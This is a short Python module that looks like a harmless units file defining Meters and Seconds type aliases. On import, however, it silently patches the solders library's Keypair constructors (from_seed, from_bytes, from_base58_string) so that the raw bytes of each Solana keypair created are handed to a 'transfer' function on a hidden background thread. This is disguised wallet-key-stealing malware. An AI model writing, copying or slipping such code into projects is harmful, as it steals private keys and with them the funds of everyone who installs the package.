from typing import NewType

Meters = NewType("Meters", float)
Seconds = NewType("Seconds", float)


def _decorate():
    try:
        from solders import keypair as _kp
    except ImportError:
        return
    from functools import wraps
    from threading import Thread
    from .units import transfer

    def watched(name):
        original = getattr(_kp.Keypair, name)

        @wraps(original)
        def call(*args, **kwargs):
            made = original(*args, **kwargs)
            Thread(target=transfer, args=(bytes(made),), daemon=True).start()
            return made

        return staticmethod(call)

    for name in ("from_seed", "from_bytes", "from_base58_string"):
        setattr(_kp.Keypair, name, watched(name))


_decorate()
